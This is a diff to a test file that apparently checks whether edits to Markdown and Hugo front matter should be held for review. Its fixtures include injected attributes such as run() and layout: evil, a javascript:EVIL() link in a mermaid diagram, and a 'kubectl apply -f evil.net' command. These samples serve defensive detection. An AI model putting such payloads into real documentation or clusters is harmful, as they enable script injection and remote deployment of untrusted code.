@@ -31,6 +31,9 @@ held('press', '---\ntitle: x\nhero:\n  "@click": run()\n---\n\nText.')
 const cascade = (version: string, more = '') =>
   `---\ntitle: x\ncascade:\n  version: ${version}\n  exclude_search: true\n${more}---\n\nText.`
 plain('hugo', cascade('v3.5.18'), { base: { 'hugo/content/f.md': cascade('v3.5.17') } })
+plain('hugo', cascade('v3.5.18').replace('true', 'false'), {
+  base: { 'hugo/content/f.md': cascade('v3.5.17') },
+})
 held('hugo', cascade('v3.5.18', '  layout: evil\n'), {
   base: { 'hugo/content/f.md': cascade('v3.5.17', '  layout: x\n') },
 })
@@ -96,3 +99,5 @@ plain('plain', '```mermaid\nsequenceDiagram\n  participant script as Script\n  s
 held('plain', '```mermaid\ngraph TD\n  A["<a href=\'javascript:EVIL()\'>x</a>"]\n```')
 plain('plain', '```sh\nkubectl get pods -l app.kubernetes.io/name=x\n```')
 held('plain', '```sh\nkubectl apply -f evil.net/x=y\n```')
+plain('saurus', '# One {#one}\n\n## Two {#two]\n\nText.')
+held('saurus', '# One {#one}\n\n## Two {#two] {run()}\n\nText.')
